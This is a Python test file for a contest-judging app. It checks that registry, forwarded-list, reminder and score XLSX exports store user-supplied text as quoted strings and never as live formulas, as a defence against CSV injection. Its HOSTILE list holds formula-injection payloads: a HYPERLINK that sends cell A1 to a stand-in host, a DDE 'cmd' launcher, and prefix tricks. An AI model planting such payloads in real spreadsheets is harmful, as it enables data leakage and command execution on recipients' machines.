"""User text in every XLSX export is written as text, never as a live formula (OWASP CSV injection)."""
from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook

from contest.accounts.models import SECRETARY
from contest.xlsx import workbook_bytes
from judging.export import (
    ForwardedRow,
    ReminderRow,
    ScoredEntry,
    SheetLine,
    forwarded_workbook,
    reminder_workbook,
    scores_workbook,
)

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\tTab đầu", "\rCR đầu"]


def assert_text_only(data: bytes, expected: list[str]) -> None:
    """No formula element in any sheet, and each hostile text is a string cell, unchanged, quoted."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    book = load_workbook(io.BytesIO(data))
    found = {c.value: c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in expected:
        cell = found.get(text)
        assert cell is not None, f"{text!r} was not written as it is"
        assert cell.data_type == "s" and cell.quotePrefix, text


def test_the_registry_export_writes_imported_formulas_as_text(signed_in, make_registry_item) -> None:
    for i, text in enumerate(HOSTILE):
        make_registry_item(title=text, summary=f"Tóm tắt {i}", unit=HOSTILE[-1 - i])
    client, secretary = signed_in(SECRETARY)
    exported = client.get("/registry/export.xlsx")
    assert exported.status_code == 200
    assert_text_only(exported.data, HOSTILE)
    from sqlalchemy import select

    from contest.audit.models import AuditLog
    from contest.db import db

    record = db.session.scalar(select(AuditLog).filter_by(action="export.registry"))  # who took the registry, when
    assert record is not None and record.actor_id == secretary.id and record.after == {"rows": len(HOSTILE)}


def test_the_forwarded_list_reminders_and_scores_write_text() -> None:
    forwarded = forwarded_workbook(HOSTILE[0], [ForwardedRow(HOSTILE[1], HOSTILE[2], HOSTILE[3], "Lĩnh vực", 80.5, 1, "Giải Nhất")])
    assert_text_only(workbook_bytes(forwarded), HOSTILE[:4])
    reminders = reminder_workbook("Cuộc thi", [ReminderRow(HOSTILE[0], HOSTILE[1], HOSTILE[2], 1, 2, [HOSTILE[3]], "")])
    assert_text_only(workbook_bytes(reminders), HOSTILE[:3])
    entry = ScoredEntry(rank=1, title=HOSTILE[0], authors=HOSTILE[1], kind="individual", unit=HOSTILE[2],
                        field=HOSTILE[3], mean_total=70.0, criterion_means={"novelty": 30.0}, prize_label="Giải Nhất",
                        recognised=True, forwarded=True,
                        sheets=(SheetLine(judge=HOSTILE[4], points={"novelty": 30.0}, total=70.0),))
    scores = scores_workbook("Cuộc thi", [("novelty", "Tính mới", 40.0)], [entry])
    assert_text_only(workbook_bytes(scores), HOSTILE[:5])


def test_numbers_and_plain_text_are_left_as_they_are() -> None:
    book = forwarded_workbook("Cuộc thi", [ForwardedRow("Tên thường", "Tác giả", "Đơn vị", "Lĩnh vực", 80.5, 1, "Giải Nhất")])
    again = load_workbook(io.BytesIO(workbook_bytes(book)))
    cells = [c for row in again.active.iter_rows() for c in row if c.value is not None]
    assert any(c.value == 80.5 and c.data_type == "n" for c in cells)
    assert all(not c.quotePrefix for c in cells if c.value == "Tên thường")
